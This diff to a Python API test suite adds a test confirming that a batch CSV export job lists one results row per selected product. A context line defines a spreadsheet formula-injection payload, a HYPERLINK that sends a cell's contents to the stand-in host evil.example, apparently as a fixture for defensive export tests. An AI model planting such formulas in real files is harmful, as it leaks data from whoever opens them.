@@ -144,6 +144,35 @@ async def test_large_export_runs_as_job(
     assert r.status_code == 404
 
 
+async def test_an_export_job_has_a_results_row_per_product_exported(
+    client: httpx.AsyncClient, editor_headers: Headers
+) -> None:
+    products = [await create_product(client, editor_headers, title=f"Row {i}") for i in range(3)]
+    left_out = await create_product(client, editor_headers, title="Not selected")
+    r = await client.post(
+        "/api/products/batch/export",
+        json={"format": "csv", "product_ids": [p["id"] for p in products], "as_job": True},
+        headers=editor_headers,
+    )
+    assert r.status_code == 202, r.text
+    job = await wait_job(client, editor_headers, r.json()["job_id"])
+    assert job["state"] == "completed", job
+
+    rows = await client.get(f"/api/jobs/{job['id']}/results", headers=editor_headers)
+    assert rows.status_code == 200, rows.text
+    listed = rows.json()["items"]
+    assert [(row["action"], row["product_id"], row["handle"]) for row in listed] == [
+        ("exported", p["id"], p["handle"]) for p in products
+    ]
+    assert left_out["id"] not in {row["product_id"] for row in listed}
+    summary = await client.get(f"/api/jobs/{job['id']}/results/summary", headers=editor_headers)
+    assert summary.json()["counts"]["actions"] == {"exported": 3}
+    file = await client.get(f"/api/jobs/{job['id']}/results.csv", headers=editor_headers)
+    assert [line["handle"] for line in csv.DictReader(io.StringIO(file.text))] == [
+        p["handle"] for p in products
+    ]
+
+
 FORMULA_TITLE = '=HYPERLINK("http://evil.example/?leak="&A1,"Click me")'
 
 
